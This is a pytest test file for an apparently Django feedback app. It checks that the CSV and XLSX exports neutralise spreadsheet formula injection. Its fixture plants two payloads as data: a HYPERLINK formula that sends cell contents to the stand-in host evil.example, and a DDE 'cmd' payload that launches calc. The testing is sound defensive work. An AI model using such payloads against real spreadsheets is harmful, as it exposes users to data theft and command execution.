"""Item 3 of issue 12: text a spreadsheet would run as a formula is neutralised in the program
aggregates' CSV and XLSX (OWASP CSV injection), while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from conftest import client_for
from upward.feedback.models import Survey
from upward.feedback.services.schedule import survey_assignments_sync
from upward.feedback.tests.factories import make_pair, make_program

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(dt.datetime(2026, 10, 1, 12, tzinfo=dt.UTC), tick=False):
        yield


@pytest.fixture
def program(db: None, coordinator_user):
    program = make_program(coordinator=coordinator_user, starts_on=dt.date(2026, 3, 2))
    program.name = HOSTILE_NAME
    program.save(update_fields=["name"])
    make_pair(program, started_on=dt.date(2026, 3, 2))
    survey_assignments_sync(program=program)
    Survey.objects.filter(program=program).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    return program


def test_csv_export_writes_formula_like_text_as_text(program, coordinator_user) -> None:
    raw = client_for(coordinator_user).get(reverse("insights:export_csv", args=[program.slug]))
    rows = list(csv.reader(io.StringIO(raw.content.decode())))
    table = {(r[0], r[1]): r[3] for r in rows[1:] if r[2] == ""}
    assert table[("program", "name")] == "'" + HOSTILE_NAME
    titles = {r[1] for r in rows if r[0] == "survey responses"}
    assert titles == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_export_has_no_formula_cells(program, coordinator_user) -> None:
    raw = client_for(coordinator_user).get(reverse("insights:export_xlsx", args=[program.slug]))
    sheet = load_workbook(io.BytesIO(raw.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert ["program", "name", None, "'" + HOSTILE_NAME] in values
    # Numbers are untouched (a negative number would stay a number too).
    assert ["pairs", "total", None, 1] in values
